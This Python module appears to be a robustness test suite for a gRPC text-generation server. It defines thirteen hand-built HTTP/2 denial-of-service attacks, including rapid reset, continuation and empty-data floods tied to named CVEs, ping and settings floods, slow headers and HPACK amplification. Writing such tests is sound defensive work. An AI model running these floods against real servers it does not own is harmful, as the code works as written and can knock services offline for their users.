"""Peers that speak HTTP/2 themselves, and send what no library of gRPC would ever send.

Each *attack* is the behaviour of one such peer (RFC 9113). A server may answer, refuse or hang up;
it may not neglect its other callers.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.settings import SettingCodes
from hpack import Encoder

from guided.v1 import generation_pb2 as pb

__all__ = ["ATTACKS", "Attack"]

Attack = Callable[[str], None]
"""Attacks the server at an address, until it has done enough or is disconnected."""

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_CALL: Final = "/guided.v1.GenerationService/Generate"
_STREAM: Final = "/guided.v1.GenerationService/GenerateStream"
_SECONDS: Final = 5.0
_MANY: Final = 4000
_PAUSE: Final = 1.5


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, section 4.1: length, type, flags, stream, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _headers(path: str) -> list[tuple[str, str]]:
    return [
        *((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")),
        *(("te", "trailers"), ("content-type", "application/grpc")),
    ]


def _body(text: str, *, stream: bool) -> bytes:
    request = pb.GenerateRequest(text=text, max_tokens=50)
    message = pb.GenerateStreamRequest(request=request) if stream else request
    packed = message.SerializeToString()
    return struct.pack(">BI", 0, len(packed)) + packed


@contextmanager
def _connected(address: str, preface: bytes = _PREFACE) -> Iterator[socket.socket]:
    """A connection; being disconnected ends the block."""
    with suppress(OSError), _dialled(address) as connection:
        connection.sendall(preface + _frame(_SETTINGS, 0, 0) if preface else b"")
        yield connection


def _dialled(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=_SECONDS)


def _flood(address: str, frames: Callable[[int], bytes], count: int = _MANY) -> None:
    """Send the frames one after another, and read nothing."""
    with _connected(address) as connection:
        for first in range(0, count, 100):
            connection.sendall(b"".join(frames(number) for number in range(first, first + 100)))


def _opened(stream: int) -> bytes:
    block = Encoder().encode(_headers(_CALL))
    return _frame(_HEADERS, _END_HEADERS, stream, block)


def _reads_nothing(address: str, window: int | None = None) -> None:
    """Sixty-four streams of answers, none of which is ever read."""
    with _connected(address, b"") as connection:
        peer = H2Connection(H2Configuration(client_side=True))
        peer.initiate_connection()
        if window is not None:
            peer.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window})
        connection.sendall(peer.data_to_send())
        for number in range(64):
            stream = peer.get_next_available_stream_id()
            peer.send_headers(stream, _headers(_STREAM))
            peer.send_data(stream, _body(f"unread {number} " * 9, stream=True), end_stream=True)
            connection.sendall(peer.data_to_send())
        time.sleep(_PAUSE)


def _window_0(address: str) -> None:
    """The window of every stream is 0, so nothing may be sent."""
    _reads_nothing(address, 0)


def _half_headers(address: str) -> None:
    """Headers that begin and never end, on many connections."""
    with suppress(OSError):
        block = Encoder().encode(_headers(_CALL))
        held = [_dialled(address) for _ in range(50)]
        for connection in held:
            half = _frame(_HEADERS, 0, 1, block[: len(block) // 2])
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0) + half)
        for connection in held:
            connection.close()


def _half_frames(address: str) -> None:
    """A frame whose payload never comes."""
    with _connected(address) as connection:
        connection.sendall(struct.pack(">I", 16_000)[1:] + struct.pack(">BBI", _HEADERS, 4, 1))
        time.sleep(_PAUSE)


def _rapid_resets(address: str) -> None:
    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
    body = _frame(_DATA, _END_STREAM, 0, _body("reset", stream=False))

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        data = body[:5] + struct.pack(">I", stream) + body[9:]
        return _opened(stream) + data + _frame(_RST, 0, stream, struct.pack(">I", 8))

    _flood(address, call)


def _pings(address: str) -> None:
    _flood(address, lambda _: _frame(_PING, 0, 0, bytes(8)))


def _settings(address: str) -> None:
    setting = struct.pack(">HI", SettingCodes.INITIAL_WINDOW_SIZE, 100)
    _flood(address, lambda _: _frame(_SETTINGS, 0, 0, setting))


def _empty_data(address: str) -> None:
    """Empty data frames, which no window limits (CVE-2019-9518)."""
    with _connected(address) as connection:
        connection.sendall(_opened(1))
        for _ in range(_MANY // 100):
            connection.sendall(_frame(_DATA, 0, 1) * 100)


def _window_updates(address: str) -> None:
    """A window that grows by a byte again and again, and then beyond the largest size."""
    _flood(address, lambda _: _frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)))


def _giant_headers(address: str) -> None:
    """One header of a megabyte."""
    block = Encoder().encode([*_headers(_CALL), ("x-giant", "x" * 2**20)], huffman=False)
    parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
    with _connected(address) as connection:
        connection.sendall(_frame(_HEADERS, 0, 1, parts[0]))
        for part in parts[1:-1]:
            connection.sendall(_frame(_CONTINUATION, 0, 1, part))
        connection.sendall(_frame(_CONTINUATION, _END_HEADERS, 1, parts[-1]))


def _continuations(address: str) -> None:
    """Headers that never end (CVE-2024-27316 and others)."""
    block = Encoder().encode([("x-more", "y" * 200)])
    with _connected(address) as connection:
        connection.sendall(_frame(_HEADERS, 0, 1, Encoder().encode(_headers(_CALL))))
        for _ in range(_MANY // 100):
            connection.sendall(_frame(_CONTINUATION, 0, 1, block) * 100)


def _packed_headers(address: str) -> None:
    """A header that is put into the table once and referenced thousands of times."""
    encoder = Encoder()
    block = encoder.encode([*_headers(_CALL), ("x-again", "z" * 3000)])
    again = encoder.encode([("x-again", "z" * 3000)])
    with _connected(address) as connection:
        whole = block + again * 12_000
        connection.sendall(_frame(_HEADERS, _END_HEADERS, 1, whole[:16_000]))


def _noise(address: str) -> None:
    """No HTTP at all, and frames of random kinds."""
    rng = random.Random(0)
    for preface in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", os.urandom(4096), b"\x16\x03\x01" * 99):
        with _connected(address, preface) as connection:
            connection.sendall(os.urandom(4096))
    for _ in range(40):
        with _connected(address) as connection:
            for _ in range(20):
                payload = rng.randbytes(rng.choice([0, 4, 8, 100]))
                connection.sendall(
                    _frame(rng.randrange(12), rng.randrange(256), rng.randrange(9), payload)
                )


ATTACKS: Final[Mapping[str, Attack]] = {
    "window 0": _window_0,
    "reads nothing": _reads_nothing,
    "half headers": _half_headers,
    "half frames": _half_frames,
    "rapid resets": _rapid_resets,
    "ping flood": _pings,
    "settings flood": _settings,
    "empty data": _empty_data,
    "window updates": _window_updates,
    "giant headers": _giant_headers,
    "continuation flood": _continuations,
    "packed headers": _packed_headers,
    "noise": _noise,
}
"""The attacks by name."""
